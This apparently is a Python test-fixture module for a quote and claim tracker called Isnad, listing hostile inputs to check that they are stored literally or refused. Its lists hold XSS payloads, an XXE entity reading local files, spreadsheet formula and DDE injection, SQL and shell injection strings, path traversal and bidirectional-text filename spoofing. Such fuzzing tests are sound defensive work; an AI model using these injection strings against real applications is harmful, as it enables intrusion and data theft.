"""Texts that someone may enter, paste or import, and that a careless program renders, runs or breaks on.

Each is kept to the letter, or refused by name; none of them means anything to Isnad.
"""

from tracker.db import Project
from tracker.records import (
    Claim,
    Link,
    Quote,
    QuoteFilter,
    Source,
    Speaker,
    SpeakerRole,
    Stance,
    Verdict,
)
from tracker.services import claims, links, quotes, saved_filters, sources, speakers, verdicts
from tracker.services.operation import operation

MARKUP = (
    "<b>قول</b> عريض",
    "<img src='x.png'>",
    "<img src=x onerror=alert(1)>",
    '<a href="https://example.org/">اضغط هنا</a>',
    "<script>alert('قول')</script>",
    "<SCRIPT SRC=//example.org/x.js></SCRIPT>",
    "<svg onload=alert(1)>",
    "<iframe src='file:///etc/hostname'></iframe>",
    "<style>*{display:none}</style>",
    "<h1>عنوان</h1><hr>",
    "<table><tr><td>خانة</td></tr></table>",
    "<p dir='rtl'>فقرة",
    "<br/><br/><br/>",
    "<!-- تعليق -->",
    "<!DOCTYPE html><html><body>صفحة</body></html>",
    "<![CDATA[نص]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]><x>&e;</x>",
    "</qt></p></body></html>",
    "<qt><b>داخل تلميح</b></qt>",
    "&lt;b&gt;ليس عريضًا&lt;/b&gt;",
    "&amp;&nbsp;&#x41;&#65;",
    "&copy & قول & &&",
    "&ملف",
    '"><b>خروج</b>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "data:text/html,<b>قول</b>",
    "file:///etc/passwd",
    "[رابط](javascript:alert(1))",
    "![صورة](http://example.org/x.png)",
    "**عريض** _مائل_ `رمز` # عنوان",
    "\\textbf{قول} $x^2$ \\input{/etc/hostname}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "%s %d %n %1 %2 {0} {name} {0.__class__} %(x)s",
    "<font color=red size=7>أحمر</font>",
    "<a name=x>",
    "<ol><li>١<li>٢</ol>",
)

FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)",
    "+1+1",
    "-1+1",
    "@SUM(1;2)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1;"اضغط")',
    '=IMPORTXML("http://example.org";"//a")',
    '=WEBSERVICE("http://example.org/"&A1)',
    '=DDE("soffice";"x.ods";"a1")',
    "=2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "  =1+1",
    "\u00a0=1+1",
    "\u200f=1+1",
    "\u200b=1+1",
    "\u2066=1+1\u2069",
    "\ufeff=1+1",
    "\t=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    "'",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    "=",
    "-",
    "+",
    "@",
    "{=1+1}",
    "=1+1\n=2+2",
    "١+١=",
    "=٢+٢",
    "%0A=1+1",
    "=\u0660",
)

QUERIES = (
    "'; DROP TABLE quote; --",
    '" OR 1=1 --',
    "') OR ('1'='1",
    "%' OR text LIKE '%",
    "% _ \\ %%",
    "* OR NEAR(a b, 2) AND NOT c",
    'text:"قول" OR title:x',
    '"غير مغلق',
    "(((((((",
    "a* -b ^c +d",
    "NULL",
    "null",
    "None",
    "true",
    "nan",
    "-0",
    "1e309",
    "0x10",
    "007",
    "1.50",
)

LETTERS = (
    "\u202eمقلوب\u202c",
    "\u202dabc\u202c",
    "\u2067abc\u2069",
    "\u200eabc\u200f",
    "\u061c١٢٣",
    "قول\u202eexe.txt",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 4,
    "الله ﷽ ﷺ ﻻ",
    "قُـــــــــــــــرِّرَتْ",
    "👩‍👩‍👧‍👦 🇮🇶 🏳️‍🌈",
    "𝕬𝖗𝖆𝖇𝖎𝖈 𐤀𐤁 𞤀",
    "\u00a0\u2003\u3000قول\u00a0",
    "سطر\u2028آخر\u2029فقرة",
    "علامة\u0085سطر",
    "جدول\tخانة",
    "سطر\nثانٍ\n\nثالث",
    "\u00ad\u034f\u115f\u3164",
    "\ue000\uf8ff\U000f0000",
    "\u0001\u0008\u001b[31mأحمر\u001b[0m\u007f",
    "ﬁ ﬀ ǅ ß ẞ ı İ",
    "ـ",
    "ءآأؤإئابةتثجحخدذرزسشصضطظعغـفقكلمنهوىي",
    "../../../etc/passwd",
    "C:\\Windows\\System32\\con",
    "con.txt nul aux",
    "ملف/اسم:آخر*?|<>",
    "$(touch x) `touch x` ; touch x | touch x",
    "C:/x.exe %APPDATA% ~ $HOME",
    "a" * 300,
    "كلمةطويلةجدًا" * 30,
)

TEXTS = (*MARKUP, *FORMULAS, *QUERIES, *LETTERS)


def enter(project: Project, text: str) -> dict[str, int]:
    """Put the text into every field of one record of each kind, all of them linked; their ids."""
    with operation(project, "add_quote"):
        return _enter(project, text)


def _enter(project: Project, text: str) -> dict[str, int]:
    source = Source(
        title=f"{text} خبر",
        outlet=text,
        author=text,
        url=text,
        archive_url=text,
        text=f"{text}\n{text}",
        language=text,
        note=text,
    )
    source_id = sources.add(project, source).new_id("source")
    speaker = Speaker(name=f"{text} ق", latin_name=text, on_behalf_of=text, wikidata=text, note=text)
    speaker_id = speakers.add(project, speaker).new_id("speaker")
    speakers.add_alias(project, speaker_id, f"{text} اسم آخر")
    speakers.add_role(project, SpeakerRole(speaker_id=speaker_id, title=text, organization=text))
    quote = Quote(
        speaker_id=speaker_id,
        source_id=source_id,
        text=f"{text} قول",
        said_on_text=text,
        role=text,
        venue=text,
        note=text,
    )
    quote_id = quotes.add(project, quote).new_id("quote")
    claim_id = claims.add(project, Claim(text=f"{text} ادعاء", topic=text, note=text)).new_id("claim")
    verdict = Verdict(
        name_ar=f"{text} حكم {source_id}", name_en=f"{text} verdict {source_id}", colour="#D55E00"
    )
    verdict_id = verdicts.add(project, verdict).new_id("verdict")
    claims.set_verdict(project, claim_id, verdict_id, note=text)
    links.link(project, Link(quote_id=quote_id, claim_id=claim_id, stance=Stance.SUPPORTS, note=text))
    saved_filters.add(project, f"{text} قائمة {source_id}", QuoteFilter(search=text))
    return {"source": source_id, "speaker": speaker_id, "quote": quote_id, "claim": claim_id}
